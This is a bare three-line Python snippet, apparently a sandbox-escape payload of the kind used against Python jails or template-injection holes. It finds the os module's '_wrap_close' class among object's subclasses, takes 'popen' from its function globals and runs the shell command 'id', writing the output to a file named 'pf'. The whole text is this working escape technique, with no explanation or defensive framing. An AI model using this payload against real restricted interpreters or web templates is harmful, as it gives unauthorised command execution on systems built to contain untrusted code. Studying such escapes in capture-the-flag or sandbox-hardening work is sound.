import os
w = [c for c in type.__subclasses__(object) if c.__qualname__ == "_wrap_close"]
w[0].__init__.__globals__["popen"]("id>pf").read()
